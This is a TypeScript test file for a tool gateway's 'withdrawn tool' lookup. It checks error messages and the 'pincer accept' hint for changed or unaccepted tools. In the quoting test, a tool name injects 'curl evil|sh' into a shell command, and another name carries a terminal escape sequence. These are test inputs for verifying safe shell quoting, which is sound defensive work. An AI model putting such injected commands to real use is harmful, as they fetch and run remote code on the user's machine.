import { expect, it } from 'vitest';
import { defineTool, offerOf } from '../../../../../test/kit/offer.ts';
import { sha256 } from '../../../../../test/kit/sha256.ts';
import { createCatalog } from '../catalog/catalog.ts';
import { readMembers } from '../wire/members.ts';
import { findWithdrawn } from './route.ts';

const catalog = createCatalog(sha256);
catalog.configure([
  { name: 'git', prefix: 'g' },
  { name: 'web', prefix: 'web' },
]);
catalog.put('git', offerOf({ withheld: [defineTool({ name: 'push' }), defineTool({ name: 'a.b' })] }));
const FETCH_AND_TRICKS = ['fetch', "y;curl evil|sh #'", '\u001b[2J'];
catalog.put('web', offerOf({ withheld: FETCH_AND_TRICKS.map((name) => defineTool({ name })) }));
const parts = {
  catalog,
  held: (server: string) =>
    server === 'git'
      ? [
          { tool: 'push', why: 'changed' as const },
          { tool: 'a.b', why: 'changed' as const },
        ]
      : FETCH_AND_TRICKS.map((tool) => ({ tool, why: 'new' as const })),
};
const find = (name: string, view?: string, scopes = {}, method = 'tools/call') =>
  findWithdrawn(parts, {
    caller: { id: 'c', name: 'c', scopes },
    view,
    method,
    params: readMembers(JSON.stringify({ name })),
  });

it('names the held tool and the command that accepts it, under any view’s name', () => {
  expect(find('g__push')).toMatchObject({
    code: 'TOOL_WITHDRAWN',
    message: expect.stringContaining('git.push has changed') as string,
    hint: expect.stringContaining('pincer accept git.push') as string,
  });
  expect(find('push', 'git')?.code).toBe('TOOL_WITHDRAWN');
  expect(find(`g__a_b_${sha256('git\0a.b').slice(0, 8)}`)?.message).toContain('git.a.b has changed');
  expect(find('web__fetch')?.message).toContain('not been accepted yet');
});

it('quotes the tool’s name so that the hint is a single shell command', () => {
  const hint = (tool: string) => find(tool, 'web')?.hint?.replace(/^.*: /, '');
  expect(hint("y;curl evil|sh #'")).toBe(String.raw`pincer accept 'web.y;curl evil|sh #'\'''`);
  expect(find('\u001b[2J', 'web')?.message).not.toContain('\u001b');
  expect(hint('\u001b[2J')).toBe(String.raw`pincer accept 'web.\u001b[2J'`);
});

it('returns undefined for any other tool, method, or caller', () => {
  expect(find('git__push')).toBeUndefined();
  expect(find('push', 'web')).toBeUndefined();
  expect(find('g__push', undefined, { servers: ['web'] })).toBeUndefined();
  expect(find('g__push', undefined, { readOnly: true })).toBeUndefined();
  expect(find('g__push', undefined, {}, 'prompts/get')).toBeUndefined();
});
